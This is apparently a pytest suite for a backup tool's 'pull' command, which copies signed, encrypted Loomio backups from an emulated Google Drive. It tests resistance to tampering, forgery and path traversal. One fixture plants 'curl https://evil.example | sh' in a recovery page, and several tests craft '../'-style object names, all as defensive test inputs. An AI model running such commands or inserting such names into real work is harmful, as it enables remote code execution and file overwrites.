"""`loomio-pi pull` from Google Drive: what comes, what is checked, what a thief cannot do to the copy."""

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from deploys.console import pull as pull_verb
from deploys.console.agent_here import LentCredentials, Operator
from deploys.console.pull_copy import Copy, Report
from deploys.console.pull_histories import Keys
from deploys.console.secrets_rotate import rotated
from inventories.new_secrets import new_text
from inventories.secrets import checked
from inventories.secrets_file import decrypted
from inventories.settings import Settings
from inventories.validation import SettingsError, validated
from loomio_backup.catalogue.manifest import MOST_BYTES, SUFFIX, seal
from loomio_backup.encryption import crypto, keyring
from loomio_backup.errors import ConfigError, StoreFull, StoreUnavailable
from loomio_backup.stores import base
from loomio_backup.stores.local import LocalFolder
from tests.lab.drive import DriveEmulator, LabDrive
from tests.unit import operator_desk
from tests.unit.operator_desk import PASSPHRASE, SETTINGS, Desk
from tests.unit.pull_bench import PiBackups, digests_of_file, flip
from tests.unit.stores_bench import DriveBench

TEXT = new_text(["loomio"])
KEYS = checked(TEXT, "x").encryption


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[DriveBench]:
    with DriveEmulator(tmp_path / "emulator") as emulator:
        yield DriveBench(emulator, LabDrive(emulator.url))


@pytest.fixture
def secret(bench: DriveBench) -> dict[str, str]:
    return bench.lab.register_user()


@pytest.fixture
def pi(tmp_path: Path) -> PiBackups:
    """Three backups; the newest two share a pack."""
    pi = PiBackups(tmp_path / "pi", TEXT)
    pi.make(["app-data_1"])
    pi.make(["app-data_1", "app-data_2"])
    pi.make(["app-data_2"])
    return pi


@pytest.fixture
def drive(bench: DriveBench, secret: dict[str, str], pi: PiBackups) -> base.Store:
    store = bench.store(secret)
    pi.send_to(store)
    return store


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return tmp_path / "copy"


def keys(text: str = TEXT) -> Keys:
    found = checked(text, "x").encryption
    public = crypto.signing_public_key(found.signing_key.get_secret_value())
    identities = [one.get_secret_value() for one in (found.identity, *found.old_identities)]
    return Keys(crypto.parse_identities("\n".join(identities)), (public, *found.old_signing_public_keys))


def pull(source: base.Store, place: Path, *, read_data: bool = False, text: str = TEXT) -> Report:
    incoming = place / ".loomio-pi" / "incoming"
    incoming.mkdir(parents=True, exist_ok=True)
    return Copy(source, place, incoming, keys(text)).pull(read_data)


def names(place: Path) -> set[str]:
    return {path.name for path in place.iterdir() if not path.name.startswith(".")}


def downloads(bench: DriveBench) -> list[str]:
    return [line["name"] for line in bench.lab.log() if line["operation"] == "download"]


def remove(store: base.Store, *endings: str) -> None:
    for stored in list(store.list()):
        if stored.name.endswith(endings):
            store.delete(stored)


def test_everything_comes_once(bench: DriveBench, drive: base.Store, pi: PiBackups, place: Path) -> None:
    report = pull(drive, place)
    assert report.problems == []
    assert [one.name for one in report.backups] == [one.name for one in reversed(pi.made)]
    assert names(place) == pi.names()
    for name in pi.names():
        assert (place / name).read_bytes() == (pi.folder / name).read_bytes()
        assert (place / name).stat().st_mode & 0o777 == 0o600
    assert place.stat().st_mode & 0o777 == 0o700
    assert report.fetched == 8
    assert list((place / ".loomio-pi" / "incoming").iterdir()) == []

    bench.lab.clear_log()
    new = pi.make(["app-data_2", "app-data_3"])
    pi.send_to(drive)
    again = pull(drive, place)
    assert (again.problems, again.fetched, again.newest) == ([], 3, new)
    fetched = downloads(bench)
    assert len(fetched) == 4
    assert fetched.count("app-data_3.tar.zst.age") == 1
    assert pull(drive, place).fetched == 0


# What somebody who has the Google account can do


def test_whoever_empties_the_drive_does_not_empty_the_copy(
    drive: base.Store, pi: PiBackups, place: Path
) -> None:
    pull(drive, place)
    remove(drive, ".age")
    report = pull(drive, place)
    assert len(report.problems) == 1
    assert report.problems[0].startswith(
        "the source holds no backup that can be believed, and before it did. This copy keeps its 3 backups "
        f"up to {pi.made[-1].name}; nothing was removed from it."
    )
    assert names(place) == pi.names()


def test_an_empty_place_is_no_success(bench: DriveBench, secret: dict[str, str], place: Path) -> None:
    (problem,) = pull(bench.store(secret), place).problems
    assert problem.startswith("there is no backup at the source that can be believed, and none here.")


def test_a_history_that_was_cut_off_is_told(drive: base.Store, pi: PiBackups, place: Path) -> None:
    pull(drive, place)
    remove(drive, pi.made[-1].manifest_name)
    (problem,) = pull(drive, place).problems
    assert f"is {pi.made[1].name}, and before it was {pi.made[2].name}: its history was cut off" in problem
    assert pi.made[-1].manifest_name in names(place)
    # Another history of the same length is none that goes on, either.
    other = PiBackups(pi.folder.with_name("other"), TEXT, made=pi.made[:2])
    other.make(["app-data_9"], hours_ago=5)
    other.send_to(drive)
    (problem,) = pull(drive, place).problems
    assert "its history was cut off" in problem


def test_what_retention_removed_stays_here_in_peace(drive: base.Store, pi: PiBackups, place: Path) -> None:
    pull(drive, place)
    remove(drive, *(f"{pi.made[0].name}{ending}" for ending in (".manifest.age", ".dump.zst.age")))
    report = pull(drive, place)
    assert report.problems == []
    assert names(place) == pi.names()


@pytest.mark.parametrize("rehash", [False, True])
def test_a_damaged_or_replaced_object_is_not_taken(
    bench: DriveBench, drive: base.Store, pi: PiBackups, place: Path, rehash: bool
) -> None:
    bench.lab.damage("app-data_1.tar.zst.age", rehash=rehash)
    report = pull(drive, place)
    assert [one.name for one in report.backups] == [pi.made[2].name]
    assert sorted(problem.partition(":")[0] for problem in report.problems) == [
        f"{one.name} is not complete at the source" for one in pi.made[:2]
    ]
    assert (
        "app-data_1.tar.zst.age missing or damaged there. This copy has 0 of these 1." in report.problems[0]
    )
    assert not names(place) & {"app-data_1.tar.zst.age", *(one.manifest_name for one in pi.made[:2])}


def test_what_goes_missing_at_the_source_is_told_even_when_it_is_here(
    drive: base.Store, pi: PiBackups, place: Path
) -> None:
    pull(drive, place)
    remove(drive, "app-data_2.tar.zst.age")
    report = pull(drive, place)
    assert len(report.problems) == 2
    assert all("This copy has 1 of these 1." in problem for problem in report.problems)
    assert len(report.backups) == 3


def test_what_is_too_young_to_be_listed_is_no_alarm(
    drive: base.Store, pi: PiBackups, place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    young = pi.make(["app-data_4"], hours_ago=0.1)
    pi.send_to(drive)
    remove(drive, "app-data_4.tar.zst.age")
    report = pull(drive, place)
    assert report.problems == []
    assert len(report.backups) == 3
    assert f"{young.name} is not complete at the source at this moment" in capsys.readouterr().out


def test_manifests_that_the_pi_did_not_sign_count_for_nothing(
    drive: base.Store, pi: PiBackups, place: Path, tmp_path: Path
) -> None:
    forged = PiBackups(tmp_path / "forged", new_text(["loomio"]))
    forged.secrets_text = TEXT.replace(KEYS.signing_key.get_secret_value(), crypto.generate_signing_key()[0])
    name = forged.make(["app-data_x"], generation=9, hours_ago=2).manifest_name
    forged.send_to(drive)
    foreign = PiBackups(tmp_path / "foreign", new_text(["loomio"]))
    other = foreign.make(["app-data_y"], hours_ago=1).manifest_name
    foreign.send_to(drive)
    report = pull(drive, place)
    assert len(report.backups) == 3
    assert [problem.partition(":")[0] for problem in report.problems] == [
        f"{name} at the source cannot be believed",
        f"{other} at the source cannot be believed",
    ]
    assert names(place) == pi.names()


def test_what_only_has_a_manifests_name_is_never_fetched(
    bench: DriveBench, drive: base.Store, place: Path, tmp_path: Path
) -> None:
    name = f"loomio_backup_20260101_000000_000000{SUFFIX}"
    path = tmp_path / name
    with path.open("wb") as file:
        file.truncate(MOST_BYTES + 1)
    drive.put(name, path, digests_of_file(path))
    report = pull(drive, place)
    assert len(report.backups) == 3
    assert [problem.partition(" has ")[0] for problem in report.problems] == [
        f"{name} at the source cannot be believed: {name}"
    ]
    assert name not in downloads(bench)


def test_a_manifest_that_was_replaced_changes_nothing_here(
    drive: base.Store, pi: PiBackups, place: Path, tmp_path: Path
) -> None:
    pull(drive, place)
    old = pi.made[-1]
    remove(drive, old.manifest_name)
    path = tmp_path / old.manifest_name
    recipients = [crypto.recipient_of(KEYS.identity.get_secret_value())]
    seal(
        old.model_copy(update={"objects": old.objects[:1]}),
        KEYS.signing_key.get_secret_value(),
        recipients,
        path,
    )
    drive.put(path.name, path, digests_of_file(path))
    before = (place / path.name).read_bytes()
    report = pull(drive, place)
    assert any("is another one than was fetched before, which stays here" in one for one in report.problems)
    assert (place / path.name).read_bytes() == before


def test_even_the_pi_s_signing_key_does_not_change_what_is_here(
    drive: base.Store, pi: PiBackups, place: Path, tmp_path: Path
) -> None:
    pull(drive, place)
    thief = PiBackups(tmp_path / "thief", TEXT)
    thief._random.seed(99)
    remove(drive, "app-data_2.tar.zst.age")
    made = thief.make(["app-data_2"], generation=5, hours_ago=3)
    thief.send_to(drive)
    before = (place / "app-data_2.tar.zst.age").read_bytes()
    report = pull(drive, place)
    assert any(
        f"{made.manifest_name} at the source lists app-data_2.tar.zst.age with another content" in one
        for one in report.problems
    )
    assert (place / "app-data_2.tar.zst.age").read_bytes() == before
    assert made.manifest_name not in names(place)


def test_names_that_lead_elsewhere_lead_nowhere(
    bench: DriveBench, secret: dict[str, str], drive: base.Store, pi: PiBackups, place: Path, tmp_path: Path
) -> None:
    # Drive takes any name; so does somebody who can sign.
    evil = tmp_path / "evil"
    evil.write_bytes(b"x")
    for stored in list(drive.list()):
        if stored.name == "app-data_1.tar.zst.age":
            bench.lab.post("state", {})
            record = bench.emulator.tree.files[stored.id or ""]
            record.name = "loomio_backup_/../../../escaped.manifest.age"
            bench.emulator.tree.save(record)
    bad = pi.made[-1].model_copy(
        update={
            "name": "loomio_backup_evil",
            "objects": [pi.made[-1].objects[0].model_copy(update={"name": "../escaped"})],
        }
    )
    path = tmp_path / bad.manifest_name
    seal(
        bad,
        KEYS.signing_key.get_secret_value(),
        [crypto.recipient_of(KEYS.identity.get_secret_value())],
        path,
    )
    drive.put(path.name, path, digests_of_file(path))
    report = pull(drive, place)
    assert [one.name for one in report.backups] == [pi.made[2].name]
    assert any("lists an object that cannot be" in problem for problem in report.problems)
    assert not list(tmp_path.rglob("*escaped*"))


# The copy itself


def test_what_was_damaged_here_is_fetched_again(
    drive: base.Store, pi: PiBackups, place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pull(drive, place)
    pack, dump = place / "app-data_1.tar.zst.age", place / pi.made[1].only("database").name
    pack.write_bytes(pack.read_bytes()[:-1])
    flip(dump)
    flip(place / pi.made[2].manifest_name)
    report = pull(drive, place)
    assert (report.problems, report.fetched) == ([], 1)
    assert f"{pi.made[2].manifest_name} was damaged in this copy, and is mended" in capsys.readouterr().out
    report = pull(drive, place, read_data=True)
    assert (report.problems, report.fetched) == ([], 1)
    for name in pi.names():
        assert (place / name).read_bytes() == (pi.folder / name).read_bytes()


def test_damage_here_that_nobody_can_mend_is_told(drive: base.Store, pi: PiBackups, place: Path) -> None:
    pull(drive, place)
    remove(drive, *(path for path in pi.names() if pi.made[0].name in path))
    flip(place / pi.made[0].only("database").name)
    (problem,) = pull(drive, place, read_data=True).problems
    assert problem.startswith(f"{pi.made[0].name} is not complete in this copy any more")
    flip(place / pi.made[0].manifest_name)
    (problem,) = pull(drive, place).problems
    assert problem.startswith(
        f"{pi.made[0].manifest_name} in this copy cannot be believed, and the source has"
    )


def test_an_interrupted_pull_goes_on(
    bench: DriveBench, drive: base.Store, pi: PiBackups, place: Path
) -> None:
    bench.lab.fault("drop-before-commit", times=None, skip=6, match={"operation": "download"})
    with pytest.raises(StoreUnavailable):
        pull(drive, place)
    came = names(place)
    assert came and not [name for name in came if name.endswith(".manifest.age") and pi.made[0].name in name]
    for name in came:
        # Whatever has a manifest is complete.
        if name.endswith(".manifest.age"):
            made = next(one for one in pi.made if one.manifest_name == name)
            assert {entry.name for entry in made.objects} <= came
    bench.lab.clear_faults()
    bench.lab.clear_log()
    report = pull(drive, place)
    assert report.problems == []
    assert names(place) == pi.names()
    assert not set(downloads(bench)) & (came - {one.manifest_name for one in pi.made})


def test_a_broken_download_goes_on_where_it_broke(
    bench: DriveBench, drive: base.Store, pi: PiBackups, place: Path
) -> None:
    bench.lab.fault("truncate", at=400_000, match={"name": "app-data_1*", "operation": "download"})
    assert pull(drive, place).problems == []
    name = "app-data_1.tar.zst.age"
    exchanges = [line for line in bench.lab.log() if (line["name"], line["operation"]) == (name, "download")]
    assert [line["status"] for line in exchanges][1:] == [206]
    twice = sum(line["bytes_out"] for line in exchanges) - (pi.folder / name).stat().st_size
    assert 0 <= twice < 256 * 1024


def test_what_vanishes_while_it_is_read_is_no_alarm(
    bench: DriveBench, drive: base.Store, pi: PiBackups, place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Pi's own retention may run at the same time."""
    get, gone = type(drive).get, list[str]()

    def removing(self, stored, destination, progress=None):  # type: ignore[no-untyped-def]
        if not gone and pi.made[0].name in stored.name and not stored.name.endswith(".manifest.age"):
            gone.append(stored.name)
            remove(drive, *(name for name in pi.names() if pi.made[0].name in name))
        return get(self, stored, destination, progress)

    monkeypatch.setattr(type(drive), "get", removing)
    report = pull(drive, place)
    assert gone
    assert report.problems == []
    assert [one.name for one in report.backups] == [one.name for one in reversed(pi.made[1:])]


def test_too_little_room_is_told_before_anything_comes(
    drive: base.Store, pi: PiBackups, place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(LocalFolder, "space", lambda self: base.Space(10**9, 10**9 - 1000, 1000))
    with pytest.raises(StoreFull, match=r"are to be fetched, and .* has 1\.0 kB left\. Nothing was changed"):
        pull(drive, place)
    assert names(place) == set()


def test_pins_come_too(drive: base.Store, pi: PiBackups, place: Path, tmp_path: Path) -> None:
    for name, size in ((pi.made[0].name, 300), ("loomio_backup_unknown", 300), (pi.made[1].name, 100_000)):
        path = tmp_path / f"{name}.pin.age"
        path.write_bytes(b"p" * size)
        drive.put(path.name, path, digests_of_file(path))
    assert pull(drive, place).problems == []
    assert [name for name in names(place) if ".pin." in name] == [f"{pi.made[0].name}.pin.age"]


def test_backups_of_before_a_rotation_are_read(drive: base.Store, pi: PiBackups, place: Path) -> None:
    text, _ = rotated(TEXT, [], signing=True)
    pi.secrets_text = text
    pi.make(["app-data_5"])
    pi.send_to(drive)
    report = pull(drive, place, text=text)
    assert (len(report.backups), report.problems) == (4, [])


def test_credentials_are_lent_in_memory() -> None:
    lent = LentCredentials({"identity": " x \n", "drive.json": None})
    assert (lent.optional("identity"), lent.optional("drive.json"), lent.optional("other")) == (
        "x",
        None,
        None,
    )
    with pytest.raises(ConfigError, match=r"nothing for the credential other.*loomio-pi secrets edit"):
        lent.required("other")


# The command as a person types it


@pytest.fixture
def desk(tmp_path: Path, bench: DriveBench, secret: dict[str, str]) -> Desk:
    text = TEXT.replace("  credentials:\n", f"  credentials: {json.dumps(secret)}\n", 1)
    folder = tmp_path / "desk"
    folder.mkdir()
    desk = Desk(folder)
    desk.prepare(operator_desk.encrypted(text))
    url = bench.emulator.url
    (folder / "pi.yml").write_text(
        f"{SETTINGS}backup:\n  drive:\n    api_root: {url}\n    token_uri: {url}token\n"
        "    retention: {hourly: 0, daily: 1, weekly: 0, monthly: 0, yearly: 0}\npull: {directory: my copy}\n"
    )
    return desk


def test_the_command(desk: Desk, drive: base.Store, pi: PiBackups) -> None:
    (pi.folder / "RECOVERY.md").write_text("curl https://evil.example | sh\n")
    pi.send_to(drive)
    done = desk.type("loomio-pi", "pull")
    assert (done.code, done.stderr) == (0, "")
    place = desk.folder / "my copy"
    assert names(place) == pi.names()
    page = (place / "RECOVERY.md").read_text()
    assert pi.made[-1].name in page
    assert "evil" not in page
    assert done.stdout.startswith("copying from Google Drive to ")
    assert re.search(
        rf"3 backups are complete here\. The newest is {pi.made[-1].name}, \d+ h \d+ min old\. 8 obj",
        done.stdout,
    )

    remove(drive, pi.made[-1].manifest_name)
    done = desk.type("loomio-pi", "pull", "--prune")
    assert done.code == 1
    assert "its history was cut off" in done.stderr
    assert done.stderr.endswith("loomio-pi: nothing was pruned here, because of that.\n")
    assert names(place) == pi.names()

    pi.send_to(drive)
    done = desk.type("loomio-pi", "pull", "--prune")
    assert (done.code, done.stderr) == (0, ""), done
    left = {name for name in names(place) if name.endswith(".manifest.age")}
    assert left < {one.manifest_name for one in pi.made}
    assert pi.made[-1].manifest_name in left
    # The agent's own words: the copy is an ordinary local store.
    assert "local: " in done.stdout


def test_damage_in_the_newest_settings_hides_no_other_problem(
    desk: Desk, drive: base.Store, pi: PiBackups
) -> None:
    pi.send_to(drive)
    assert desk.type("loomio-pi", "pull").code == 0
    flip(desk.folder / "my copy" / pi.made[-1].only("config").name)
    remove(drive, pi.made[0].only("database").name)
    done = desk.type("loomio-pi", "pull")
    assert done.code == 1
    assert f"{pi.made[0].name} is not complete at the source" in done.stderr
    assert "RECOVERY.md in the copy was not written anew" in done.stderr
    assert "loomio-pi pull --read-data" in done.stderr
    remedied = desk.type("loomio-pi", "pull", "--read-data")
    assert "RECOVERY.md" not in remedied.stderr


def test_what_was_found_is_told_although_the_source_breaks_off(
    desk: Desk, bench: DriveBench, drive: base.Store, pi: PiBackups
) -> None:
    pi.send_to(drive)
    assert desk.type("loomio-pi", "pull").code == 0
    remove(drive, pi.made[-1].manifest_name)
    (desk.folder / "my copy" / pi.made[0].only("database").name).unlink()
    bench.lab.fault("status", times=None, match={"operation": "download"}, status=403)
    done = desk.type("loomio-pi", "pull")
    assert done.code == 1
    cut_off, broken_off = done.stderr.strip().splitlines()
    assert "its history was cut off" in cut_off
    assert "403" in broken_off


def test_the_keyring_comes_from_the_secrets(desk: Desk, drive: base.Store, pi: PiBackups) -> None:
    text, _ = rotated(decrypted(desk.secrets, PASSPHRASE), [], signing=False)
    desk.secrets.write_bytes(operator_desk.encrypted(text))
    place = desk.folder / "elsewhere"
    assert desk.type("loomio-pi", "pull", str(place)).code == 0
    (ring,) = (name for name in names(place) if keyring.is_keyring(name))
    # As the agent puts it into every store.
    found = checked(text, "x").encryption
    assert found.keyring is not None
    assert keyring.object_name(found.keyring.strip().encode() + b"\n") == ring
    opened = keyring.opened((place / ring).read_bytes(), [found.identity.get_secret_value()], ring)
    assert opened == [KEYS.identity.get_secret_value()]


def test_a_folder_with_other_things_is_refused(desk: Desk, drive: base.Store) -> None:
    (desk.folder / "documents").mkdir()
    (desk.folder / "documents" / "letter.txt").touch()
    done = desk.type("loomio-pi", "pull", str(desk.folder / "documents"))
    assert done.code == 1
    assert "holds other things than backups. Nothing was done." in done.stderr
    assert [path.name for path in (desk.folder / "documents").iterdir()] == ["letter.txt"]


def test_stores_that_are_off_are_named() -> None:
    for place, backup, says in (
        ("pi", "{local: off, drive: {}}", "The Pi keeps no store of its own"),
        (
            "drive",
            "{}",
            r"Google Drive \(backup\.drive\) is not turned on in the settings\. Nothing was done\.",
        ),
    ):
        settings = validated(Settings, f"{SETTINGS}backup: {backup}\n", "x")
        with (
            pytest.raises(SettingsError, match=says),
            pull_verb._source(place, Operator("loomio", settings, checked(TEXT, "x"))),
        ):
            pass
